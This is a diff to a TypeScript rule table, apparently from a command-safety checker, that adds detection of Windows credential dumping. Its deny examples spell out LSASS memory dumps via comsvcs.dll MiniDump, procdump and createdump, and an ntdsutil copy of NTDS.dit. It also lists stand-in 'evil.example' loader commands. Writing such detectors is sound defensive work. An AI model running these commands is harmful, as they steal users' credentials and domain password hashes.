@@ -219,9 +219,12 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
     summary: 'rundll32: calls a DLL export; url.dll, ieframe.dll and javascript: open URLs',
     analyze: (call) => {
       const remote = call.args.some((w) => /url\.dll|ieframe\.dll|shdocvw\.dll|javascript:|mshtml/i.test(value(w) ?? w.text) || URL.test(value(w) ?? ''));
-      return remote ? {} : { offline: 'rundll32 calls a local DLL export' };
+      // comsvcs.dll's MiniDump export writes a process's memory to a file: LSASS's holds the logged-on users' credentials.
+      const dump = call.args.find((w) => /comsvcs(?:\.dll)?['"\s,]*(?:minidump|#\s*24)\b/i.test(call.args.map((a) => value(a) ?? a.text).join(' ')) && /comsvcs/i.test(value(w) ?? w.text));
+      const dumps: Partial<Answer> = dump ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: dump, why: "comsvcs.dll MiniDump writes a process's memory to a file (LSASS's holds the users' credentials)" }] } : {};
+      return remote ? dumps : { ...dumps, offline: 'rundll32 calls a local DLL export' };
     },
-    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example')], pass: [ps('rundll32 printui.dll,PrintUIEntry /?')] },
+    examples: { deny: [ps('rundll32 url.dll,FileProtocolHandler https://evil.example'), ps('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\tmp\\l.dmp full'), ps("rundll32 comsvcs.dll '#24' 624 l.dmp full")], pass: [ps('rundll32 printui.dll,PrintUIEntry /?')] },
   },
   {
     names: ['chrome', 'msedge', 'firefox', 'chromium', 'chromium-browser', 'google-chrome', 'google-chrome-stable', 'brave', 'opera'],
@@ -449,6 +452,21 @@ export const WINDOWS_ENTRIES: readonly ProgramEntry[] = [
       return remote ? { runs: [{ kind: 'opaque', rule: 'dynamic-script', word: remote, why: 'odbcconf runs actions that load code from another machine or are computed' }] } : {};
     },
     examples: { deny: [ps('odbcconf.exe /f x.rsp'), ps('odbcconf /a {REGSVR \\\\evil.example\\share\\x.dll}')], pass: [ps('odbcconf /a {REGSVR C:\\tools\\driver.dll}')] },
+  },
+  {
+    names: ['procdump', 'procdump64', 'createdump', 'sqldumper', 'rdrleakdiag', 'dump64', 'ntdsutil'],
+    summary: "Memory dumpers (procdump, .NET's createdump, sqldumper, rdrleakdiag, dump64): a process's memory in a file, LSASS's (the users' credentials) or one named by a PID that may be it; ntdsutil ifm/snapshot copies the domain's NTDS.dit with its hashes",
+    analyze: (call) => {
+      const texts = call.args.map((w) => value(w));
+      if (call.name === 'ntdsutil') {
+        const at = call.args.find((_, i) => texts[i] === undefined || /\b(?:ifm|snapshot)\b/i.test(texts[i]!));
+        return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: "ntdsutil ifm and snapshot copy NTDS.dit, the domain's password hashes" }] } : {};
+      }
+      // A process named by its image (`procdump -ma myapp.exe`) other than LSASS is the user's own; a PID or a computed word may be LSASS.
+      const at = call.args.find((_, i) => texts[i] === undefined || /^lsass(?:\.exe)?$/i.test(texts[i]!) || (/^\d+$/.test(texts[i]!) && !/^[-/](?:n|s|c|cl|m|ml|p|pl|e|u|t|r|at|f|o|d)$/i.test(texts[i - 1] ?? '')));
+      return at ? { runs: [{ kind: 'opaque', rule: 'dynamic-code', word: at, why: `${call.name} writes a process's memory to a file: LSASS's holds the users' credentials, another's its secrets` }] } : {};
+    },
+    examples: { deny: [ps('procdump -ma lsass.exe l.dmp'), ps('procdump64.exe -accepteula -ma (Get-Process lsass).Id l.dmp'), ps('createdump.exe -u -f l.dmp 624'), ps('ntdsutil "ac i ntds" "ifm" "create full c:\\x" q q')], pass: [ps('procdump -ma myapp.exe crash.dmp'), ps('procdump -ma -n 3 -s 5 myapp.exe')] },
   },
   {
     names: ['forfiles'],
